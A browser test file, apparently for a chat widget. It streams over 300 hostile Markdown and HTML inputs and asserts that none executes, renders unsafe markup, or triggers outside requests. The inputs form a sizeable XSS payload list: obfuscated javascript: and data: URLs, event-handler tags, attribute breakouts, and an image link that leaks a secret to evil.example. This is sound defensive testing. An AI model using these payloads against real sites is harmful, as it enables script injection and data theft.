// Hostile Markdown, whole and a character at a time, on a page whose policy would let it run: nothing of it does.
import { test } from "node:test";
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { Server, until } from "./support/server.mjs";
import { startBrowser } from "./support/browser.mjs";
import { startProvider, oneBot } from "./support/provider.mjs";

const run = "window.hit(1)";
const b64 = Buffer.from(`<script>parent.hit(1)</script>`).toString("base64");
const schemes = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, ` javascript:${run}`, `\u0001javascript:${run}`, `java\tscript:${run}`, `java\nscript:${run}`, `java&#10;script:${run}`,
  `&#106;avascript:${run}`, `&#x6A;avascript:${run}`, `javascript&colon;${run}`, `javascript&#58;${run}`, `jav&#x09;ascript:${run}`, `javascript\u003a${run}`, `%6Aavascript:${run}`,
  `javascript://x.example/%0a${run}`, `javascript:/*--></title></style>*/${run}`, `vbscript:msgbox(1)`, `livescript:${run}`, `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,${b64}`, `data:image/svg+xml;base64,${b64}`, `data:application/xhtml+xml,<x/>`, `blob:https://x.example/1`, `file:///etc/passwd`, `filesystem:https://x/1`,
  `view-source:javascript:${run}`, `feed:javascript:${run}`, `jar:javascript:${run}!`, `\\javascript:${run}`, `//javascript:${run}`, `/relative`, `?query`, `#hash`, `about:blank`, `ws://x.example`, `intent://x#Intent;end`,
];
const forms = [
  (url) => `[click](${url})`, (url) => `[click](<${url}>)`, (url) => `[click](${url} "title")`, (url) => `![alt](${url})`, (url) => `<${url}>`, (url) => `[a]\n\n[a]: ${url}`,
  (url) => `**[bold](${url})**`, (url) => `| a |\n|---|\n| [x](${url}) |`,
];
const tags = [
  `<script>${run}</script>`, `<script src=//x.example/x.js></script>`, `<img src=x onerror=${run}>`, `<img src="x" onerror="${run}">`, `<IMG SRC=x OnErRoR=${run}>`, `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<iframe src="javascript:parent.hit(1)"></iframe>`, `<iframe srcdoc="<script>parent.hit(1)</script>">`, `<object data="javascript:${run}">`, `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}">x</a>`, `<body onload=${run}>`, `<input autofocus onfocus=${run}>`, `<details open ontoggle=${run}>`, `<video src=x onerror=${run}>`, `<audio src=x onerror=${run}>`, `<marquee onstart=${run}>`,
  `<style>@import 'javascript:${run}';</style>`, `<link rel=stylesheet href="data:,*{x:expression(${run})}">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<base href="javascript:${run}//">`, `<form action="javascript:${run}"><button>x</button></form>`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<template><script>${run}</script></template>`, `<xss style="animation-name:x" onanimationstart=${run}>`, `--><img src=x onerror=${run}>`, `"><img src=x onerror=${run}>`,
  `</div></div><img src=x onerror=${run}>`, `<img src=\`x\` onerror=${run}>`, `&lt;img src=x onerror=${run}&gt;`, `<<img src=x onerror=${run}>`, `<img/src/onerror=${run}>`, `\u202e<img src=x onerror=${run}>`,
];
const wraps = [(text) => text, (text) => `# ${text}`, (text) => `- ${text}\n- ${text}`, (text) => `> ${text}`, (text) => `\`\`\`html\n${text}\n\`\`\``, (text) => `\`${text}\``, (text) => `*${text}*`, (text) => `text ${text} text`];
const breakouts = [
  `[x](https://a.example/" onmouseover="${run})`, `[x](https://a.example/' onclick='${run})`, `![x](https://a.example/x.png" onerror="${run})`, `![" onerror="${run}](https://a.example/x.png)`, `[x](https://a.example "t" onclick=${run})`,
  `\`\`\`" onclick="${run}\nx\n\`\`\``, `\`\`\`<img src=x onerror=${run}>\nx`, `[![x](javascript:${run})](javascript:${run})`, `[x](https://a.example\u0000javascript:${run})`, `https://a.example/"onmouseover="${run}`,
  `![leak](https://evil.example/?said=secret)`, `[x]: javascript:${run}\n[x]`, `- [ ] <img src=x onerror=${run}>`, `${">".repeat(200)} x`, `${"[".repeat(300)}x${"](javascript:1)".repeat(300)}`, `${"- ".repeat(200)}x`, `${"*".repeat(1001)}x`,
];
const vectors = [...schemes.flatMap((url) => forms.map((form) => form(url))), ...tags.flatMap((tag, i) => [tag, wraps[1 + (i % (wraps.length - 1))](tag)]), ...breakouts];

const sse = (events) => events.map(([name, data], i) => `id: abcdefabcdef-${i + 1}\nevent: ${name}\ndata: ${JSON.stringify(data)}\n\n`).join("");

// What the stream of a server that was won over would say.
function hostile(conversation, pieces) {
  const events = [["hello", { resumed: false }]];
  vectors.forEach((text, i) => {
    const turn = `t${i}`;
    events.push(["turn", { conversation, turn, answer: `a${i}`, key: `k${i}`, message: { id: `m${i}`, role: "user", content: text } }]);
    for (const piece of pieces(text)) events.push(["delta", { turn, text: piece }]);
    events.push(["message", { conversation, turn, id: `a${i}`, role: "assistant", content: text, status: "complete" }], ["end", { conversation, turn, finish: "stop" }]);
  });
  events.push(["confirm", { conversation, turn: "t0", id: "c", state: "waiting", expires_at: 4e9, tool: "x", title: tags[2], fields: [{ name: tags[3], value: tags[5] }] }]);
  return sse(events);
}

test(`${vectors.length} vectors: none is run, none becomes more than text, a checked link or nothing`, { timeout: 120000 }, async (t) => {
  assert.ok(vectors.length >= 300);
  const provider = await startProvider(t);
  const browser = await startBrowser(t);
  const page0 = createServer((request, reply) => {
    reply.writeHead(200, { "content-type": "text/html" });
    reply.end(`<!doctype html><title>x</title><link rel="icon" href="data:,"><script src="${server.url}/widget.js" data-bot="support" async></script><body>`);
  });
  await new Promise((done) => page0.listen(0, "127.0.0.1", done));
  t.after(() => (page0.closeAllConnections(), page0.close()));
  const origin = `http://127.0.0.1:${page0.address().port}`;
  const server = await Server.start(t, oneBot(provider, { access: { anonymous: true, origins: [origin] } }));
  for (const pieces of [(text) => [text], (text) => [...text], (text) => text.match(/[^]{1,7}/gu)]) {
    const page = await browser.newPage();
    const hits = [];
    const requests = [];
    await page.exposeFunction("hit", (n) => hits.push(n));
    page.on("dialog", (dialog) => (hits.push(dialog.message()), dialog.dismiss()));
    page.on("pageerror", (error) => hits.push(error.stack));
    page.on("request", (request) => requests.push(new URL(request.url()).host));
    const conversation = "01M84DMG1PAXDTPN7628BMAZ8V";
    await page.route("**/api/widget/events*", (route) => route.fulfill({ status: 200, headers: { "content-type": "text/event-stream", "access-control-allow-origin": origin }, body: hostile(conversation, pieces) }));
    await page.route("**/api/widget/conversations/*", (route) => route.abort());
    await page.addInitScript(([key, value]) => sessionStorage.setItem(key, value), ["switchboard.support.conversation", conversation]);
    await page.goto(origin);
    await page.locator(".launcher").click();
    await until(async () => (await page.locator(".message:not(.user) .text").count()) >= vectors.length && (await page.locator(".card").count()) === 1, "all answers");
    const found = await page.evaluate(() => {
      const root = document.getElementById("switchboard").shadowRoot;
      const bad = [];
      for (const node of root.querySelectorAll(".log *")) {
        if (/^(script|iframe|object|embed|style|link|meta|base|video|audio|math|template|marquee|details)$/i.test(node.tagName)) bad.push(node.outerHTML);
        if (/^(img|form|svg)$/i.test(node.tagName) && node.closest(".text")) bad.push(node.outerHTML);
        for (const { name } of node.attributes) if (/^on|^srcdoc|^style$/.test(name) && node.closest(".text")) bad.push(node.outerHTML);
        if (node.tagName === "A" && node.hasAttribute("href") && !/^(https?|mailto|tel):$/.test(node.protocol)) bad.push(node.outerHTML);
        if (node.tagName === "A" && node.hasAttribute("href") && node.host === location.host) bad.push(node.outerHTML);
      }
      return bad;
    });
    assert.deepEqual(found, []);
    // What looks like a link can be pressed.
    for (const link of await page.locator(".text a:not([href])").all()) await link.dispatchEvent("click");
    assert.deepEqual(hits, []);
    assert.deepEqual([...new Set(requests)].filter((host) => host && host !== new URL(origin).host && host !== new URL(server.url).host), []);
    await page.close();
  }
});
